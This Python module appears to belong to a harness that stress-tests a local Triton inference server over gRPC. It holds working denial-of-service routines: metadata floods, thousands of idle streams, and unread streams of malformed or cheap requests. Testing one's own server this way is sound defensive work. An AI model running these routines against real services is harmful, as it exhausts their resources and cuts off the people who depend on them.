"""gRPC attacks: metadata floods, streams opened and not used, answers not read, and deeply nested
messages."""

from __future__ import annotations

import time
from typing import Any

import grpc
from bodies import grpc_request, small_picture
from tritonclient.grpc import service_pb2

from against.target import PATIENCE_S, Attack, Target, counted

SERVICE = "/inference.GRPCInferenceService/"


def channel(target: Target, number: int = 0) -> Any:
    """A channel with a connection of its own."""
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_metadata_size", 2**24), ("a", number)]
    return grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", options=options)


def outcome(call: Any) -> str:
    """The call's gRPC status."""
    try:
        call()
    except grpc.RpcError as error:
        return str(error.code().name)  # type: ignore[attr-defined]
    return "OK"


def metadata(target: Target) -> object:
    """Send calls with a hundred times the allowed metadata, and calls with just the allowed amount."""
    sent = []
    with channel(target) as opened:
        live = opened.unary_unary(SERVICE + "ServerLive")
        for size in (7000, 1_000_000):
            many = [(f"x-{index}", "v" * 60) for index in range(size // 70)]
            sent += [
                outcome(lambda: live(b"", metadata=many, timeout=PATIENCE_S))  # noqa: B023
                for _ in range(target.times(300))
            ]
    return counted(sent)


def open_streams(target: Target) -> object:
    """Open streams that send nothing, over several connections."""

    def nothing() -> Any:
        time.sleep(8 * min(1.0, target.scale))
        return iter(())

    channels = [channel(target, number) for number in range(target.times(20))]
    calls = []
    for opened in channels:
        stream = opened.stream_stream(SERVICE + "ModelStreamInfer")
        calls += [stream(_later(nothing)) for _ in range(target.times(100))]
    ends = [outcome(lambda: list(call)) for call in calls]  # noqa: B023
    for opened in channels:
        opened.close()
    return counted(ends)


def _later(make: Any) -> Any:
    """A generator that starts with the first request for an item."""
    yield from make()


def unread(target: Target) -> object:
    """Open streams of thousands of wrong, and so cheap, requests whose answers are not read."""
    with channel(target) as opened:
        stream = opened.stream_stream(SERVICE + "ModelStreamInfer")
        wrong = service_pb2.ModelInferRequest(model_name="none" * 1000).SerializeToString()
        calls = [stream(iter([wrong] * target.times(5000))) for _ in range(target.times(20))]
        time.sleep(8 * min(1.0, target.scale))
        for call in calls:
            call.cancel()
    return f"{len(calls)} streams"


def asked_and_unread(target: Target) -> object:
    """Open streams of captions of one token whose answers are not read."""
    request = grpc_request(small_picture())
    request.parameters["num_beams"].int64_param = 1
    request.parameters["max_new_tokens"].int64_param = 1
    with channel(target) as opened:
        stream = opened.stream_stream(SERVICE + "ModelStreamInfer")
        one = request.SerializeToString()
        calls = [stream(iter([one] * target.times(1000))) for _ in range(target.times(10))]
        time.sleep(8 * min(1.0, target.scale))
        for call in calls:
            call.cancel()
    return f"{len(calls)} streams"


ATTACKS: dict[str, Attack] = {
    "gRPC: metadata": metadata,
    "gRPC: 2,000 streams that send nothing": open_streams,
    "gRPC: wrong requests, answers not read": unread,
    "gRPC: captions, answers not read": asked_and_unread,
}
